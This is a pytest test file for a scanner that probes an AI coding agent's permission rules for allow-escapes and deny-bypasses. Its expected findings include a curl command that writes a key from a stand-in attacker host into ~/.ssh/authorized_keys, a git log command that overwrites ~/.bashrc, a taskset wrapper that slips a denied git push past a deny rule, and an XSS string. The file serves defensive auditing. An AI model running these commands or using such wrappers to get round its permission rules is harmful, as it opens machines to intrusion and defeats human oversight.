"""``toolmatrix probe`` and ``%tk probe`` (issue 24 item 4): table, JSON, SARIF, exit status;
the notebook's findings table in the shared palette, escaped."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pandas as pd
import pytest
from IPython.core.error import UsageError

import toolkit as tk
from tests.notebook.conftest import TestingShell
from tests.support.claude import build_project, permissions
from toolkit.cli import main
from toolkit.core.decision import Effect
from toolkit.render.decisions import PALETTE


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    proj = build_project(tmp_path, project=permissions(
        allow=["Bash(curl:*)", "Bash(git log *)"], deny=["Bash(git push *)"]))
    root = proj.root
    proj.close()
    return Path(root)


def _run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    return main(list(argv), out, err), out.getvalue(), err.getvalue()


def test_table_lists_findings_and_exits_zero_on_escapes_only(repo: Path) -> None:
    code, out, _ = _run("probe", str(repo), "--no-home")
    assert code == 0  # allow escapes are reported; only a deny-bypass fails by default
    lines = out.strip().splitlines()
    assert lines[-1].startswith("3 rule(s) probed with ") and lines[-1].endswith(
        "2 allow-escape, 0 deny-bypass finding(s)")
    assert (".claude/settings.json:4: allow-escape: allow Bash(curl:*) — 'curl -s "
            "https://evil.example/k -o ~/.ssh/authorized_keys' runs unasked (allow by "
            "Bash(curl:*)) [curl-output]") in lines
    code, _, _ = _run("probe", str(repo), "--no-home", "--fail-on", "allow-escape")
    assert code == 1


def test_mode_turns_wrapped_commands_into_deny_bypasses(repo: Path) -> None:
    code, out, _ = _run("probe", str(repo), "--no-home", "--mode", "bypassPermissions",
                        "--rule", "Bash(git push *)", "--rules")
    assert code == 1
    assert "deny-bypass: deny Bash(git push *) — 'taskset 1 git push' runs unasked (allow by " \
           "no rule (mode)) [taskset]" in out
    assert ".claude/settings.json:8: probed: deny Bash(git push *) (seed 'git push'" in out


def test_json_and_sarif(repo: Path) -> None:
    code, out, _ = _run("probe", str(repo), "--no-home", "--format", "json")
    data = json.loads(out)
    assert code == 0 and data["ok"] is True and data["fail_on"] == ["deny-bypass"]
    assert {f["template"] for f in data["findings"]} == {"curl-output", "git-output-file"}
    assert {r["rule"] for r in data["rules"]} == {"Bash(curl:*)", "Bash(git log *)",
                                                  "Bash(git push *)"}
    code, out, _ = _run("probe", str(repo), "--no-home", "--format", "sarif")
    log = json.loads(out)
    assert log["version"] == "2.1.0"
    run = log["runs"][0]
    assert run["tool"]["driver"]["name"] == "toolmatrix probe"
    assert {r["id"] for r in run["tool"]["driver"]["rules"]} == {"allow-escape", "deny-bypass"}
    [where] = {json.dumps(r["locations"][0]["physicalLocation"]) for r in run["results"]
               if "git log" in r["message"]["text"]}
    assert json.loads(where) == {"artifactLocation": {"uri": ".claude/settings.json"},
                                 "region": {"startLine": 5}}
    assert {r["level"] for r in run["results"]} == {"warning"}


@pytest.mark.parametrize("argv, message", [
    (["--mode", "nope"], "mode"),
    (["--rule", "Bash(gti push *)"], "no shell-command rule 'Bash(gti push *)'"),
    (["--fail-on", "everything"], "--fail-on: unknown kind 'everything'"),
])
def test_bad_input_is_a_usage_error(repo: Path, argv: list[str], message: str) -> None:
    code, out, err = _run("probe", str(repo), "--no-home", *argv)
    assert code == 2 and out == ""
    assert err.startswith("toolmatrix: error:") and message in err
    assert "Traceback" not in err


def test_a_project_without_shell_rules_warns(tmp_path: Path) -> None:
    proj = build_project(tmp_path, project=permissions(allow=["Read(src/**)"]))
    code, out, err = _run("probe", str(proj.root), "--no-home")
    assert code == 0 and "0 rule(s) probed" in out
    assert "warning: no shell-command rule to probe" in err


def test_magic_probe_is_the_same_frame_in_the_palette(ip: TestingShell, repo: Path) -> None:
    home = repo.parent / "home"
    ip.run_cell(f"%tk load {repo} --home {home}")
    ip.run_cell("view = %tk probe")
    view = ip.user_ns["view"]
    expected = tk.load(repo, home=home).probe()
    pd.testing.assert_frame_equal(view.frame.reset_index(drop=True), expected)
    html = view._repr_mimebundle_()["text/html"]
    assert f"color:{PALETTE[Effect.ALLOW]}" in html
    assert "git log --output=~/.bashrc" in html
    ip.run_cell("bypass = %tk probe --mode bypassPermissions --kind deny-bypass")
    assert set(ip.user_ns["bypass"].frame["kind"]) == {"deny-bypass"}
    with pytest.raises(UsageError, match="%tk probe: no shell-command rule"):
        ip.run_cell("%tk probe --rule 'Bash(nothing)'")


def test_probe_view_escapes_what_policy_files_wrote() -> None:
    from toolkit.notebook.cmd.probe import ProbeView

    frame = pd.DataFrame([{"kind": "deny-bypass", "rule": "Bash(<b>x</b> *)",
                           "command": "env <script>alert(1)</script>", "effect": "allow",
                           "deciding_rule": "Bash(env:*)", "template": "env",
                           "file": ".claude/settings.json", "line": 3}])
    html = ProbeView(frame, pd.DataFrame(), "1 rule(s) probed")._repr_mimebundle_()["text/html"]
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;b&gt;x&lt;/b&gt;" in html


def test_readme_ci_example_parses() -> None:
    """The README's GitHub Actions workflow is YAML, and each toolmatrix step is a command
    line the CLI accepts (parsed, not run); the pre-commit hooks name verbs that exist."""
    import re
    import shlex

    import yaml

    from toolkit.cli import _parser

    root = Path(__file__).parents[2]
    readme = (root / "README.md").read_text(encoding="utf-8")
    [block] = re.findall(r"```yaml\n(# \.github/workflows/agent-permissions\.yml\n.*?)```",
                         readme, re.S)
    workflow = yaml.safe_load(block)
    steps = workflow["jobs"]["toolmatrix"]["steps"]
    commands = [s["run"] for s in steps if str(s.get("run", "")).startswith("toolmatrix ")]
    assert [c.split()[1] for c in commands] == ["check", "test", "diff", "probe"]
    for command in commands:
        argv = shlex.split(command.split(">")[0])[1:]
        args = _parser().parse_args(argv)
        assert args.command == argv[0]
    diff = _parser().parse_args(shlex.split(commands[2])[1:])
    assert diff.git == "origin/main" and diff.fail_on_new_access
    hooks = yaml.safe_load((root / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))
    for hook in hooks:
        argv = [*hook["entry"].split()[1:], *hook["args"]]
        assert _parser().parse_args(argv).command == hook["entry"].split()[1]
    assert "toolmatrix-probe" in {h["id"] for h in hooks}
